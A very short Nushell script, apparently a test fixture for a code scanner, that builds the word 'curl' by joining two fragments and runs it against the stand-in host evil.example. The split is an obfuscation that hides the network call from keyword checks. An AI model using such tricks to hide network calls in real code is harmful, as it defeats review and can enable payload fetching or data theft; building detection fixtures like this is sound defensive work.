def main [] {
  let cmd = ["cu" "rl"] | str join
  run-external $cmd "http://evil.example"
}
